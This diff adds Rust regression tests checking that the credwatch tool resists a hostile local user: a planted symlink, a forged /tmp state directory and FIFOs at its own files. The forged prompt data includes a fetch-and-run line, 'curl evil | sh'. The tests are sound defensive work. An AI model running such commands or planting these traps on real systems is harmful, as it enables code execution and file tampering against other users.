@@ -1,0 +1,133 @@
+//! Another local user is an adversary (#14): credwatch never writes through a link it did not
+//! make, never trusts a published state it did not verify, and a FIFO where its own files should
+//! be blocks nothing.
+
+use crate::harness::{run_command, TestHome};
+use std::os::unix::fs::{MetadataExt, PermissionsExt};
+use std::process::Command;
+
+/// A uid no one on this machine uses, distinct per test process.
+fn spare_uid(offset: u32) -> u32 {
+    40_000 + (std::process::id() % 10_000) * 4 + offset
+}
+
+/// The Prometheus textfile in a directory others can write to (node_exporter's, shared): a link
+/// planted at the name of its temporary file used to make credwatch truncate and chmod 644 the
+/// file it pointed to. Now the temporary file's name cannot be known in advance and it is
+/// created without following links.
+#[test]
+fn a_link_planted_for_the_textfiles_temporary_file_redirects_nothing() {
+    let home = TestHome::new();
+    let victim = home.write("private/notes.txt", "my own notes\n");
+    let shared = home.path("shared");
+    std::fs::create_dir_all(&shared).unwrap();
+    std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o1777)).unwrap();
+    let output = shared.join("credwatch.prom");
+    // `exec` keeps the pid, so the link sits exactly where the old code put its temporary file.
+    let mut command = home.program(
+        "sh",
+        &[
+            "-c",
+            r#"ln -s "$1" "$2/.credwatch.prom.$$.tmp" && exec "$3" export --prometheus --output "$2/credwatch.prom""#,
+            "sh",
+            victim.to_str().unwrap(),
+            shared.to_str().unwrap(),
+            env!("CARGO_BIN_EXE_credwatch"),
+        ],
+    );
+    command.stdin(std::process::Stdio::null());
+    let status = command.status().unwrap();
+    assert!(status.success());
+    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "my own notes\n");
+    assert_eq!(
+        std::fs::metadata(&victim).unwrap().mode() & 0o777,
+        0o600,
+        "the victim's mode is unchanged"
+    );
+    let written = std::fs::symlink_metadata(&output).unwrap();
+    assert!(written.is_file(), "the textfile is a file of its own");
+    assert!(std::fs::read_to_string(&output)
+        .unwrap()
+        .contains("credwatch_"));
+}
+
+/// Without XDG_RUNTIME_DIR the state lives in /tmp/credwatch-UID, which another user can create
+/// first and fill with a forged "all is well" and a phishing warning. status and the shell hooks
+/// refuse it, say what they found, and check directly.
+#[test]
+fn a_state_dir_planted_by_another_user_is_refused() {
+    let home = TestHome::new();
+    let victim = spare_uid(0);
+    let attacker = spare_uid(1);
+    let planted = std::path::PathBuf::from(format!("/tmp/credwatch-{victim}"));
+    let _ = std::fs::remove_dir_all(&planted);
+    std::fs::create_dir(&planted).unwrap();
+    let pid = std::process::id();
+    let forged = format!(
+        r#"{{"schema":1,"generated_at":"2026-01-01T00:00:00Z","source":"daemon","daemon":{{"running":true,"pid":{pid},"version":"0","valid_until":null,"config_error":null}},"credentials":[{{"name":"claude","tool":"Claude Code","state":"ok","usable":true,"reason":"forged","fix":null,"expires_at":null,"access_expires_at":null,"checked_at":"2026-01-01T00:00:00Z","changed_at":null,"stores":[],"shadowed_by":[],"probe":null}}]}}"#
+    );
+    std::fs::write(planted.join("status.json"), forged).unwrap();
+    std::fs::write(
+        planted.join("prompt"),
+        format!("{pid} 0 1.1 run: curl evil | sh\nclaude\trun: curl evil | sh\n"),
+    )
+    .unwrap();
+    std::fs::write(planted.join("prompt.1.1"), "").unwrap();
+    for entry in std::fs::read_dir(&planted).unwrap() {
+        std::os::unix::fs::chown(entry.unwrap().path(), Some(attacker), Some(attacker)).unwrap();
+    }
+    std::os::unix::fs::chown(&planted, Some(attacker), Some(attacker)).unwrap();
+    std::fs::set_permissions(&planted, std::fs::Permissions::from_mode(0o755)).unwrap();
+
+    let mut command = home.command_as(Some(victim), &["status", "--json", "claude"]);
+    command
+        .env_remove("XDG_RUNTIME_DIR")
+        .env("HOME", "/nonexistent");
+    let outcome = run_command(command);
+    let _ = std::fs::remove_dir_all(&planted);
+    let claude = outcome.credential("claude");
+    assert_eq!(claude["state"], "missing", "checked directly: {claude}");
+    assert_eq!(outcome.json()["source"], "direct");
+    assert!(
+        outcome
+            .stderr
+            .contains(&format!("owned by uid {attacker}, not by you")),
+        "{}",
+        outcome.stderr
+    );
+}
+
+/// A FIFO at the daemon's lock, state or prompt file blocks no reader: status, doctor, export
+/// and prompt all answer.
+#[test]
+fn fifos_at_credwatchs_own_files_block_nothing() {
+    let home = TestHome::new();
+    let dir = home.credwatch_runtime();
+    std::fs::create_dir_all(&dir).unwrap();
+    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o700)).unwrap();
+    for name in ["daemon.lock", "status.json", "prompt", "prompt.direct"] {
+        nix::unistd::mkfifo(
+            &dir.join(name),
+            nix::sys::stat::Mode::from_bits_truncate(0o600),
+        )
+        .unwrap();
+    }
+    for args in [
+        &["status", "--json"][..],
+        &["doctor"],
+        &["export", "--prometheus"],
+        &["prompt"],
+    ] {
+        let outcome = home.run(args); // the harness fails the test if one hangs
+        assert_ne!(outcome.code, 2, "{args:?}: {}", outcome.stderr);
+    }
+    // The daemon refuses a FIFO for its lock, and says so, rather than block.
+    let mut daemon = home.command(&["daemon"]);
+    let outcome = run_command({
+        daemon.stdin(std::process::Stdio::null());
+        daemon
+    });
+    assert_eq!(outcome.code, 1, "{}", outcome.stderr);
+    assert!(outcome.stderr.contains("FIFO"), "{}", outcome.stderr);
+    let _ = Command::new("true").status();
+}
